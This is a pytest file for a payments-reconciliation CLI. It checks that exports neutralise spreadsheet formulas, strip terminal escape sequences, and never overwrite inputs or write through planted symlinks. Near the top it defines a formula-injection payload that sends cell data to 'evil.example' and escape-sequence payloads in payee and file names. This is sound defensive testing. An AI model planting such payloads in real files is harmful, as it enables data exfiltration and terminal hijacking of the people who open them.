"""What reconcile prints and writes from values in a file cannot act on the reader's machine: a CSV cell
never becomes a formula in a spreadsheet, a terminal never receives an escape sequence (issue 18)."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from conftest import posix_only
from reconcile.cli import cli
from test_pipeline import PAYMENTS, REGISTRY, month

HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Xem")'
ESCAPE = "NGUYEN\x1b[2J\x1b]0;owned\x07 VAN HUNG"


def hostile_month(tmp_path, payee):
    payments = [row[:] for row in PAYMENTS]
    payments[0][2] = payee  # a payee name that differs from the registry's: a NAME_MISMATCH shows it
    reg, pay = month(tmp_path, REGISTRY, payments)
    db = tmp_path / "r.duckdb"
    res = CliRunner().invoke(
        cli, ["run", "--period", "2024-09", "--db", str(db), "--registry", str(reg), "--payments", str(pay)]
    )
    assert res.exit_code == 0, res.output
    return db


def test_read_back_csv_writes_a_formula_as_text(tmp_path):
    db = hostile_month(tmp_path, HOSTILE)
    res = CliRunner().invoke(cli, ["flags", "--db", str(db), "--format", "csv"])
    assert res.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert [r["payee_name"] for r in rows if r["code"] == "NAME_MISMATCH"] == ["'" + HOSTILE]
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@\t\r"]
    # a number stays a number
    assert {r["paid_amount"] for r in rows} == {"1500000"}


def test_the_terminal_gets_no_escape_sequence(tmp_path):
    db = hostile_month(tmp_path, ESCAPE)
    for command in (
        ["flags"],
        ["show", "001087012345"],
        ["flags", "--format", "csv"],  # a CSV printed on the terminal, as it is by default
        ["show", "001087012345", "--format", "csv"],
    ):
        res = CliRunner().invoke(cli, [*command, "--db", str(db)])
        assert res.exit_code == 0, res.output
        assert "NGUYEN [2J ]0;owned  VAN HUNG" in res.stdout
        assert not any(ch in res.stdout for ch in "\x1b\x07")


def test_the_csv_export_carries_no_escape_sequence(tmp_path):
    """The flags export kept a payee's ESC and BEL characters: the CSV printed on a terminal acted on it."""
    db = hostile_month(tmp_path, ESCAPE)
    out = tmp_path / "export"
    res = CliRunner().invoke(cli, ["report", "--period", "2024-09", "--db", str(db), "--export", str(out)])
    assert res.exit_code == 0, res.output
    text = (out / "flags_2024-09.csv").read_text(encoding="utf-8-sig")
    assert "NGUYEN [2J ]0;owned  VAN HUNG" in text
    assert not any(ch in text for ch in "\x1b\x07")


def test_check_does_not_print_an_id_taken_for_a_header(tmp_path):
    """A column headed by an ID (a data row read as the header's) was listed whole as ignored."""
    path = tmp_path / "bank.csv"
    path.write_text(
        "payment_ref,vneid,payee_name,amount,value_date,channel,079196118125\n"
        "FT1,001087012345,NGUYEN VAN HUNG,500000,05/09/2024,bank,x\n",
        encoding="utf-8",
    )
    res = CliRunner().invoke(cli, ["--lang", "en", "check", str(path), "--as", "payments", "--period", "2024-09"])
    assert "079196118125" not in res.output
    assert "ignored: ********8125" in res.stdout


@posix_only  # a file name with an escape character
def test_an_escape_sequence_in_a_file_s_name_never_reaches_the_terminal(tmp_path):
    """An error naming the file printed its name as it was: the escape sequences in it retitled the
    window and coloured the terminal."""
    path = tmp_path / "pay\x1b]0;PWNED\x07\x1b[31mRED.csv"
    path.write_bytes(b"")
    res = CliRunner().invoke(cli, ["--lang", "en", "check", str(path), "--as", "payments", "--period", "2024-09"])
    assert res.exit_code == 2
    assert res.stderr == (
        f"reconcile: error: {tmp_path}/pay ]0;PWNED  [31mRED.csv: file is empty; check that the export finished "
        "and send the file again\n"
    )


def test_a_file_name_with_brackets_is_read_as_named_not_as_a_pattern(tmp_path):
    """bank[1].csv and bank[1].parquet are those files, not bank1.csv or bank1.parquet beside them."""
    import duckdb
    import polars as pl

    from conftest import write_csv
    from test_pipeline import PAY_HEADER

    reg, _ = month(tmp_path, REGISTRY, PAYMENTS)
    decoy = [row[:] for row in PAYMENTS]
    for row in decoy:
        row[0] = "DECOY-" + row[0]
    for suffix in ("csv", "parquet"):
        named, other = tmp_path / f"bank[1].{suffix}", tmp_path / f"bank1.{suffix}"
        if suffix == "csv":
            write_csv(named, PAY_HEADER, PAYMENTS)
            write_csv(other, PAY_HEADER, decoy)
        else:
            pl.DataFrame([dict(zip(PAY_HEADER, r)) for r in PAYMENTS]).write_parquet(named)
            pl.DataFrame([dict(zip(PAY_HEADER, r)) for r in decoy]).write_parquet(other)
        db = tmp_path / f"{suffix}.duckdb"
        res = CliRunner().invoke(
            cli, ["run", "--period", "2024-09", "--db", str(db), "--registry", str(reg), "--payments", str(named)]
        )
        assert res.exit_code == 0, res.output
        with duckdb.connect(str(db), read_only=True) as con:
            assert con.execute("SELECT payment_ref FROM payments ORDER BY 1").fetchall() == [
                ("BD003",),
                ("FT001",),
                ("FT002",),
            ]
            assert con.execute("SELECT file_name FROM inputs WHERE role = 'payments'").fetchall() == [
                (f"bank[1].{suffix}",)
            ]


def test_an_output_never_replaces_an_input_or_another_output(tmp_path):
    """Refused before anything is read or written, each in one line; every file as it was."""
    import os

    reg, pay = month(tmp_path, REGISTRY, PAYMENTS)
    (tmp_path / "staged").mkdir()
    staged_input = tmp_path / "staged" / "payments.parquet"
    staged_input.write_bytes(b"PAR1 not really")
    os.link(pay, tmp_path / "link.csv")
    db, book = str(tmp_path / "r.duckdb"), str(tmp_path / "r.xlsx")
    cases = [
        (["--db", book, "--report", book], f"{book}: given as --db and --report; give each output its own name"),
        (["--db", db, "--report", db + ".key"], None),  # refused as no .xlsx already
        # the export's folder at the workbook's or the key's name: the period was saved, then exit 4
        (
            ["--db", db, "--report", book, "--export", book],
            f"{book}: given as --report and --export; give each output its own name",
        ),
        (
            ["--db", db, "--export", db + ".key"],
            f"{db}.key: given as --db's key file and --export; give each output its own name",
        ),
        (["--db", db, "--report", str(pay)], None),
        (
            ["--db", str(reg)],
            f"{reg}: --db would write over an input file; give it another name (a run never replaces its inputs)",
        ),
    ]
    snapshot = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    for extra, message in cases:
        res = CliRunner().invoke(
            cli,
            ["run", "--period", "2024-09", "--registry", str(reg), "--payments", str(pay), *extra],
            catch_exceptions=False,
        )
        assert res.exit_code == 2, (extra, res.output)
        if message:
            assert res.stderr.splitlines()[-1] == f"reconcile: error: {message}"
    # the report named like an input (.csv is refused as not a workbook; a workbook input is refused as an input)
    workbook_input = tmp_path / "bang_ke.xlsx"
    workbook_input.write_bytes(b"PK")
    res = CliRunner().invoke(
        cli,
        [
            "run",
            "--period",
            "2024-09",
            "--registry",
            str(reg),
            "--payments",
            str(pay),
            "--payments",
            str(workbook_input),
            "--db",
            str(tmp_path / "r.duckdb"),
            "--report",
            str(workbook_input),
        ],
    )
    assert res.stderr.splitlines()[-1] == (
        f"reconcile: error: {workbook_input}: --report would write over an input "
        "file; give it another name (a run never replaces its inputs)"
    )
    # a hard link is the same file under another name
    res = CliRunner().invoke(
        cli,
        [
            "run",
            "--period",
            "2024-09",
            "--registry",
            str(reg),
            "--payments",
            str(pay),
            "--db",
            str(tmp_path / "link.csv"),
        ],
    )
    assert res.stderr.splitlines()[-1] == (
        f"reconcile: error: {tmp_path / 'link.csv'}: --db would write over an input "
        "file; give it another name (a run never replaces its inputs)"
    )
    res = CliRunner().invoke(
        cli,
        [
            "run",
            "--stage-only",
            "--period",
            "2024-09",
            "--registry",
            str(reg),
            "--payments",
            str(staged_input),
            "--out",
            str(tmp_path / "staged"),
        ],
    )
    assert res.stderr.splitlines()[-1] == (
        f"reconcile: error: {staged_input}: --out would write over an input file; "
        "stage into another folder (a run never replaces its inputs)"
    )
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file() and p != workbook_input} == snapshot


def test_report_from_the_database_never_replaces_an_input_of_a_reconciled_period(tmp_path):
    """`reconcile report` has no inputs on its command line: the files the database's runs read are its
    inputs, by the path recorded (as given to the run) and by content (a copy, or the path spelled
    from another folder)."""
    import openpyxl

    from test_pipeline import PAY_HEADER

    reg, pay = month(tmp_path, REGISTRY, PAYMENTS[:2])
    book = openpyxl.Workbook()  # a workbook input: the post office's list, as a .xlsx
    book.active.append(PAY_HEADER)
    book.active.append(PAYMENTS[2])
    post = tmp_path / "buu_dien.xlsx"
    book.save(post)
    db = tmp_path / "r.duckdb"
    args = ["--period", "2024-09", "--db", str(db)]
    res = CliRunner().invoke(
        cli, ["run", *args, "--registry", str(reg), "--payments", str(pay), "--payments", str(post)]
    )
    assert res.exit_code == 0, res.output
    copy = tmp_path / "elsewhere" / "copy.xlsx"
    copy.parent.mkdir()
    copy.write_bytes(post.read_bytes())
    before = {p: p.read_bytes() for p in (reg, pay, post, copy)}
    for target in (post, copy):
        res = CliRunner().invoke(cli, ["--lang", "en", "report", *args, "--report", str(target)])
        assert res.exit_code == 2, res.output
        assert res.stderr.splitlines()[-1] == (
            f"reconcile: error: {target}: --report would write over an input file; give it another name "
            "(a run never replaces its inputs)"
        )
    # an input named as an export writes: flags_2024-09.csv kept as the run read it
    exports = tmp_path / "exports"
    exports.mkdir()
    named = exports / "flags_2024-09.csv"
    named.write_bytes(pay.read_bytes())
    res = CliRunner().invoke(cli, ["--lang", "en", "report", *args, "--export", str(exports)])
    assert res.exit_code == 2, res.output
    assert res.stderr.splitlines()[-1].startswith(f"reconcile: error: {named}: --export would write over an input")
    assert {p: p.read_bytes() for p in before} == before
    assert named.read_bytes() == pay.read_bytes()
    res = CliRunner().invoke(cli, ["--lang", "en", "report", *args, "--report", str(tmp_path / "bao_cao.xlsx")])
    assert res.exit_code == 0, res.output


def test_report_replaces_only_a_workbook_reconcile_wrote(tmp_path):
    """A workbook of the user's at the --report name (an input of another month, edited since, or run
    from another folder: neither its path nor its content says it was an input) is not written over;
    a workbook reconcile wrote, even saved again by Excel, is."""
    import openpyxl

    reg, pay = month(tmp_path, REGISTRY, PAYMENTS)
    db = tmp_path / "r.duckdb"
    res = CliRunner().invoke(
        cli, ["run", "--period", "2024-09", "--db", str(db), "--registry", str(reg), "--payments", str(pay)]
    )
    assert res.exit_code == 0, res.output
    theirs = tmp_path / "danh_sach_thang_8.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["Số định danh cá nhân", "Họ và tên"])
    book.save(theirs)
    before = theirs.read_bytes()
    for command in (
        ["report", "--period", "2024-09", "--db", str(db), "--report", str(theirs)],
        ["run", "--period", "2024-09", "--db", str(db), "--registry", str(reg), "--payments", str(pay),
         "--report", str(theirs)],
    ):  # fmt: skip
        res = CliRunner().invoke(cli, ["--lang", "en", *command])
        assert res.exit_code == 2, res.output
        assert res.stderr.splitlines()[-1] == (
            f"reconcile: error: {theirs}: is a file reconcile did not write; give --report another name, or move "
            "that file (reconcile replaces only a workbook of its own)"
        )
    assert theirs.read_bytes() == before
    ours = tmp_path / "bao_cao.xlsx"
    args = ["report", "--period", "2024-09", "--db", str(db), "--report", str(ours)]
    assert CliRunner().invoke(cli, args).exit_code == 0
    saved_again = openpyxl.load_workbook(ours)  # as Excel saves it: the document's properties kept
    saved_again.save(ours)
    assert CliRunner().invoke(cli, args).exit_code == 0


def test_actions_never_write_over_an_input_named_as_an_action_file(tmp_path):
    """An input saved in the actions folder under an action file's name (a bank's re-issue list kept
    beside them) is refused, not written over."""
    reg, pay = month(tmp_path, REGISTRY, PAYMENTS)
    out = tmp_path / "actions"
    out.mkdir()
    kept = out / "reissue_VBA.csv"
    kept.write_bytes(pay.read_bytes())
    db = tmp_path / "r.duckdb"
    res = CliRunner().invoke(
        cli, ["run", "--period", "2024-09", "--db", str(db), "--registry", str(reg), "--payments", str(kept)]
    )
    assert res.exit_code == 0, res.output
    res = CliRunner().invoke(
        cli, ["--lang", "en", "actions", "--period", "2024-09", "--db", str(db), "--out", str(out)]
    )
    assert res.exit_code == 2, res.output
    assert res.stderr.splitlines()[-1] == (
        f"reconcile: error: {kept}: --out would write over an input file; give it another name "
        "(a run never replaces its inputs)"
    )
    assert kept.read_bytes() == pay.read_bytes()


@pytest.mark.slow
def test_a_wide_rejected_row_is_written_whole_in_file_order(tmp_path):
    """The rejected rows sheet writes each raw row in one pass over its values (it took minutes for rows of
    thousands of columns)."""
    import openpyxl

    from conftest import write_csv
    from test_pipeline import PAY_HEADER

    reg, _ = month(tmp_path, REGISTRY, PAYMENTS)
    extra = [f"ghi chú {i}" for i in range(1500)]
    rows = [row + [f"v{i}" for i in range(1500)] for row in PAYMENTS]
    rows += [
        ["", "001087012345", "NGUYEN VAN HUNG", "VBA", "0011223344", "không rõ", "05/09/2024", "bank", "success"]
        + [f"x{i}" for i in range(1500)]
        for _ in range(50)
    ]
    pay = write_csv(tmp_path / "wide.csv", PAY_HEADER + extra, rows)
    db, book = tmp_path / "r.duckdb", tmp_path / "r.xlsx"
    config = tmp_path / "c.toml"  # 50 of the 53 rows rejected: the month's guard would refuse the file
    config.write_text("[checks]\nmax_rejected = 1\n", encoding="utf-8")
    res = CliRunner().invoke(
        cli,
        [
            "run",
            "--period",
            "2024-09",
            "--db",
            str(db),
            "--registry",
            str(reg),
            "--payments",
            str(pay),
            "--report",
            str(book),
            "--lang",
            "en",
            "--config",
            str(config),
        ],
    )
    assert res.exit_code == 0, res.output
    sheet = openpyxl.load_workbook(book, read_only=True)["Rejected rows"]
    raws = [row[6] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(raws) == 50
    assert raws[0] == "; ".join(
        [f"{h}: {v}" for h, v in zip(PAY_HEADER, rows[3][:9])] + [f"ghi chú {i}: x{i}" for i in range(1500)]
    )


@posix_only  # a symbolic link on Windows needs an administrator or developer mode
def test_an_output_at_a_link_replaces_the_link_and_never_writes_through_it(tmp_path):
    """A link planted at the workbook's or an export's name (to a file of someone else's) is replaced by
    the output; the file it pointed to is untouched."""
    reg, pay = month(tmp_path, REGISTRY, PAYMENTS)
    export = tmp_path / "export"
    export.mkdir()
    book = tmp_path / "r.xlsx"
    victims = [tmp_path / "victim1.txt", tmp_path / "victim2.txt"]
    for link, victim in zip((book, export / "flags_2024-09.csv"), victims):
        victim.write_bytes(b"not to be overwritten")
        link.symlink_to(victim)
    res = CliRunner().invoke(
        cli,
        [
            "run",
            "--period",
            "2024-09",
            "--db",
            str(tmp_path / "r.duckdb"),
            "--registry",
            str(reg),
            "--payments",
            str(pay),
            "--report",
            str(book),
            "--export",
            str(export),
        ],
    )
    assert res.exit_code == 0, res.output
    assert [v.read_bytes() for v in victims] == [b"not to be overwritten"] * 2
    for output in (book, export / "flags_2024-09.csv"):
        assert not output.is_symlink() and output.stat().st_size > 0
